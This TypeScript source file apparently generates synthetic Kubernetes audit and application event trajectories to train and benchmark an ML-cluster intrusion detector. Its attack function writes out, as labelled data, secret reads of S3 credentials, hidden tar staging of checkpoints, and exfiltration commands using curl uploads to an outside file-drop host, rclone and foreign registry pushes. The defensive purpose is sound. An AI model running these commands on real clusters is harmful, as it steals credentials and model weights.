/**
 * A small synthetic benchmark for the Layer-2 models' own tests and throughput script (the real one
 * comes from `mlshield generate --benchmark`). Records have the shapes the ingest readers produce:
 * audit events with `attrs.audit`, subresource, objectName, exec.command, sourceIPs, userAgent; app
 * events with the seed's `details` fields in attrs. Benign trajectories are training jobs (reads,
 * watches, checkpoints to the shared bucket, an occasional human debugging session, some benign
 * exports); malicious ones turn, part-way, into recon → staging → conversion → exfiltration.
 */
import type { EventRecord } from '../core/records.js';
import { gpuWindowFeatures } from './gpu-features.js';
import { SeededRandom } from './seeded-random.js';
import type { TrajectorySample } from './sequence-dataset.js';

const T0 = Date.UTC(2026, 2, 2, 8, 0, 0) * 1000;
const SEC = 1_000_000;

interface Ctx {
  rng: SeededRandom;
  ns: string;
  job: string;
  pod: string;
  sa: string;
  events: EventRecord[];
  labels: boolean[];
  t: number;
}

function audit(c: Ctx, verb: string, resource: string, opts: { sub?: string; name?: string; actor?: string; code?: number; command?: string[]; ua?: string; ip?: string; tty?: boolean }, malicious: boolean): void {
  const actor = opts.actor ?? c.sa;
  const code = opts.code ?? (opts.sub === 'exec' ? 101 : 200);
  const query = opts.command ? `?${opts.command.map((a) => `command=${encodeURIComponent(a)}`).join('&')}&container=pytorch&stdin=${opts.tty ? 'true' : 'false'}&stdout=true&tty=${opts.tty ? 'true' : 'false'}` : '';
  const uri = `/api/v1/namespaces/${c.ns}/${resource}${opts.name ? `/${opts.name}` : ''}${opts.sub ? `/${opts.sub}` : ''}${query}`;
  const ev = {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Metadata',
    auditID: `a-${c.job}-${c.events.length}`,
    stage: 'ResponseComplete',
    requestURI: uri,
    verb,
    user: { username: actor },
    sourceIPs: [opts.ip ?? '10.0.3.17'],
    userAgent: opts.ua ?? 'python-requests/2.31',
    objectRef: { resource, namespace: c.ns, name: opts.name, subresource: opts.sub },
    responseStatus: { code },
  };
  c.events.push({
    ts: c.t,
    source: 'k8s_audit',
    actor,
    action: verb,
    resource: opts.sub ? `${resource}/${opts.sub}` : resource,
    namespace: c.ns,
    job: `${c.ns}/${c.job}`,
    node: null,
    gpu: null,
    outcome: code === 403 ? 'denied' : code >= 400 ? 'failure' : 'success',
    attrs: {
      audit: ev,
      code,
      subresource: opts.sub,
      objectName: opts.name,
      sourceIPs: ev.sourceIPs,
      userAgent: ev.userAgent,
      exec: opts.command ? { command: opts.command, container: 'pytorch', stdin: opts.tty === true, tty: opts.tty === true } : undefined,
    },
    line: c.events.length + 1,
    offset: 0,
  });
  c.labels.push(malicious);
}

function app(c: Ctx, action: string, resource: string, details: Record<string, unknown>, actor: string, malicious: boolean): void {
  c.events.push({ ts: c.t, source: 'app', actor, action, resource, namespace: c.ns, job: `${c.ns}/${c.job}`, node: null, gpu: null, outcome: null, attrs: { namespace: c.ns, ...details }, line: c.events.length + 1, offset: 0 });
  c.labels.push(malicious);
}

function wait(c: Ctx, lo: number, hi: number): void {
  c.t += Math.round(c.rng.range(lo, hi) * SEC);
}

/** One benign step of a training job. */
function benignStep(c: Ctx, owner: string, step: number): void {
  const r = c.rng.float();
  wait(c, 20, 140);
  if (r < 0.25) audit(c, 'get', 'pods', { name: c.pod }, false);
  else if (r < 0.4) audit(c, 'watch', 'configmaps', {}, false);
  else if (r < 0.5) audit(c, 'list', 'pods', {}, false);
  else if (r < 0.62) app(c, 'train_step', `/mnt/ckpt/${c.job}`, { step, loss: 2.1 - step * 0.01 }, owner, false);
  else if (r < 0.72) app(c, 'dataset_read', `s3://corp-ml-datasets/${c.job}/shard-${step}.tar`, { bytes: c.rng.int(900) * 1_048_576 }, owner, false);
  else if (r < 0.8) app(c, 'checkpoint_save', `/mnt/ckpt/${c.job}/step_${step}/model.pt`, { bytes: 2e9 + c.rng.int(1e9), format: 'pt' }, owner, false);
  else if (r < 0.87) app(c, 'artifact_upload', `/mnt/ckpt/${c.job}/step_${step}/model.pt`, { destination: `s3://corp-ml-checkpoints/${c.ns}/${c.job}/step_${step}/model.pt`, bytes: 2e9 + c.rng.int(1e9) }, owner, false);
  else if (r < 0.91) audit(c, 'get', 'pods', { sub: 'log', name: c.pod, actor: owner, ua: 'kubectl/v1.30.2 (linux/amd64)' }, false);
  else if (r < 0.94) audit(c, 'get', 'secrets', { name: 'wandb-api-key' }, false);
  else if (r < 0.97) audit(c, 'create', 'pods', { sub: 'exec', name: c.pod, actor: owner, ua: 'kubectl/v1.30.2 (linux/amd64)', command: c.rng.pick([['nvidia-smi'], ['python', 'eval.py', '--split', 'dev'], ['sh']]), tty: true }, false);
  else app(c, 'model_export', `/mnt/ckpt/${c.job}/export/model.safetensors`, { format: 'safetensors', bytes: 3e9, source: `/mnt/ckpt/${c.job}/step_${step}/model.pt` }, owner, false);
}

/** The attack, with per-trajectory variation: steps skipped, channel and order drawn. */
function attack(c: Ctx, variant: 'standard' | 'heldout'): void {
  const attacker = c.rng.pick(['svc-ckpt-sync@corp.example', 'svc-artifact-mirror@corp.example', c.sa]);
  const ua = 'kubectl/v1.29.0 (linux/amd64)';
  const ip = c.rng.float() < 0.5 ? '203.0.113.45' : '10.0.9.4';
  const quick = () => wait(c, 1, 25);
  // recon
  if (c.rng.float() < 0.8) {
    quick();
    audit(c, 'create', 'selfsubjectrulesreviews', { actor: attacker, ua, ip }, true);
  }
  quick();
  audit(c, 'list', 'secrets', { actor: attacker, ua, ip, code: c.rng.float() < 0.2 ? 403 : 200 }, true);
  if (c.rng.float() < 0.7) {
    quick();
    audit(c, 'get', 'secrets', { name: 's3-credentials', actor: attacker, ua, ip }, true);
  }
  // staging
  quick();
  const part = '/tmp/.cache/hf/blobs.tgz';
  if (variant === 'standard') {
    audit(c, 'create', 'pods', { sub: 'exec', name: c.pod, actor: attacker, ua, ip, command: ['sh', '-c', `mkdir -p /tmp/.cache/hf && tar czf ${part} -C /mnt/ckpt/${c.job} .`] }, true);
  } else {
    audit(c, 'create', 'pods', { sub: 'exec', name: c.pod, actor: attacker, ua, ip, command: ['rsync', '-a', `/mnt/ckpt/${c.job}/`, '/dev/shm/x/'] }, true);
  }
  if (c.rng.float() < 0.6) {
    quick();
    app(c, 'checkpoint_load', `/mnt/ckpt/${c.job}/step_900/model.pt`, { bytes: 3e9 }, attacker, true);
  }
  // conversion
  if (c.rng.float() < 0.75) {
    quick();
    app(c, 'model_export', '/tmp/.cache/out/model.gguf', { format: 'gguf', quantization: 'q4_k_m', bytes: 1.9e9 }, attacker, true);
  }
  // exfiltration
  const parts = 1 + c.rng.int(3);
  for (let i = 0; i < parts; i++) {
    quick();
    const channel = variant === 'heldout' ? 'registry' : c.rng.pick(['curl', 'rclone', 'aws']);
    if (channel === 'curl') audit(c, 'create', 'pods', { sub: 'exec', name: c.pod, actor: attacker, ua, ip, command: ['curl', '-sS', '-T', `${part}.${i}`, `https://upload.filedrop-cdn.net/u/tmp-share-0835/part-${i}`] }, true);
    else if (channel === 'rclone') audit(c, 'create', 'pods', { sub: 'exec', name: c.pod, actor: attacker, ua, ip, command: ['rclone', 'copy', `${part}.${i}`, 'remote:model-mirror-4412/x/'] }, true);
    else if (channel === 'aws') app(c, 'artifact_upload', `${part}.${i}`, { destination: `s3://backup-archive-eu-2291/${c.job}/part-${i}`, bytes: 6e8 }, attacker, true);
    else app(c, 'registry_push', `${part}.${i}`, { destination: `oci://ghcr.io/mirrorsync/${c.job}:p${i}`, bytes: 6e8 }, attacker, true);
  }
}

function gpuSamples(rng: SeededRandom, mode: 'train' | 'bulk_copy' | 'idle' | 'checkpoint'): number[] {
  const samples = [];
  for (let k = 0; k < 4; k++) {
    const v = (lo: number, hi: number) => rng.range(lo, hi);
    const levels =
      mode === 'train'
        ? { util: v(92, 100), mem: v(30, 52), tensor: v(0.42, 0.68), tx: v(1.5e8, 4.2e8), rx: v(4e8, 1.3e9), nv: v(5e10, 9e10), power: v(300, 390), fb: v(30000, 39000) }
        : mode === 'checkpoint'
          ? { util: v(18, 46), mem: v(70, 93), tensor: v(0.01, 0.09), tx: v(1.1e10, 2.2e10), rx: v(6e7, 2e8), nv: v(1e8, 1e9), power: v(185, 245), fb: v(30000, 39000) }
          : mode === 'bulk_copy'
            ? { util: v(2, 12), mem: v(44, 81), tensor: v(0, 0.004), tx: v(6e9, 1.65e10), rx: v(5e7, 2.5e8), nv: v(0, 1e6), power: v(88, 142), fb: v(20000, 39000) }
            : { util: 0, mem: 0, tensor: 0, tx: v(1.5e5, 6e5), rx: v(1.5e5, 6e5), nv: 0, power: v(54, 61), fb: 0 };
    const ts = T0 + k * 15 * SEC;
    const s = (field: string, value: number) => ({ ts, node: 'gpu-node-1', gpu: '0', job: 'j', field, value });
    samples.push(
      s('DCGM_FI_DEV_GPU_UTIL', levels.util),
      s('DCGM_FI_DEV_MEM_COPY_UTIL', levels.mem),
      s('DCGM_FI_PROF_PIPE_TENSOR_ACTIVE', levels.tensor),
      s('DCGM_FI_PROF_PCIE_TX_BYTES', levels.tx),
      s('DCGM_FI_PROF_PCIE_RX_BYTES', levels.rx),
      s('DCGM_FI_PROF_NVLINK_TX_BYTES', levels.nv),
      s('DCGM_FI_DEV_POWER_USAGE', levels.power),
      s('DCGM_FI_DEV_FB_USED', levels.fb),
      s('DCGM_FI_DEV_ENC_UTIL', 0),
    );
  }
  return gpuWindowFeatures(samples);
}

export function syntheticTrajectory(rng: SeededRandom, index: number, kind: 'benign' | 'malicious' | 'heldout', group = 'synthetic'): TrajectorySample {
  const team = rng.pick(['nlp', 'vision', 'speech']);
  const ns = `ml-${team}`;
  const job = `train-${team}-${index}`;
  const c: Ctx = { rng, ns, job, pod: `${job}-worker-0`, sa: `system:serviceaccount:${ns}:trainer`, events: [], labels: [], t: T0 + Math.round(rng.range(0, 20 * 3600) * SEC) };
  const owner = `${rng.pick(['alice', 'bob', 'chen', 'dana'])}@corp.example`;
  audit(c, 'create', 'pytorchjobs', { name: job, actor: owner, ua: 'kubectl/v1.30.2 (linux/amd64)' }, false);
  const before = 8 + rng.int(22);
  for (let s = 0; s < before; s++) benignStep(c, owner, s);
  const gpuWindows: TrajectorySample['gpuWindows'] = [];
  for (let w = 0; w < 3; w++) gpuWindows.push({ features: gpuSamples(rng, rng.float() < 0.85 ? 'train' : rng.float() < 0.5 ? 'checkpoint' : 'idle'), malicious: false });
  if (kind !== 'benign') {
    attack(c, kind === 'heldout' ? 'heldout' : 'standard');
    for (let s = 0; s < 2 + rng.int(4); s++) benignStep(c, owner, before + s);
    gpuWindows.push({ features: gpuSamples(rng, 'bulk_copy'), malicious: true });
  }
  return { job: `${ns}/${job}`, group, events: c.events, labels: c.labels, gpuWindows };
}

/**
 * `n` trajectories, `maliciousShare` of them attacks (the held-out variant when `heldOut`), in
 * cases of CASE_SIZE trajectories (the `group`: one incident bundle's cluster).
 */
export function syntheticSplit(seed: number, n: number, maliciousShare: number, heldOut = false): TrajectorySample[] {
  const rng = new SeededRandom(seed);
  const kinds: ('benign' | 'malicious' | 'heldout')[] = [];
  for (let i = 0; i < n; i++) kinds.push(i < Math.round(n * maliciousShare) ? (heldOut ? 'heldout' : 'malicious') : 'benign');
  rng.shuffle(kinds);
  return kinds.map((kind, i) => syntheticTrajectory(rng, seed * 1000 + i, kind, `case-${seed}-${Math.floor(i / CASE_SIZE)}`));
}

const CASE_SIZE = 6;
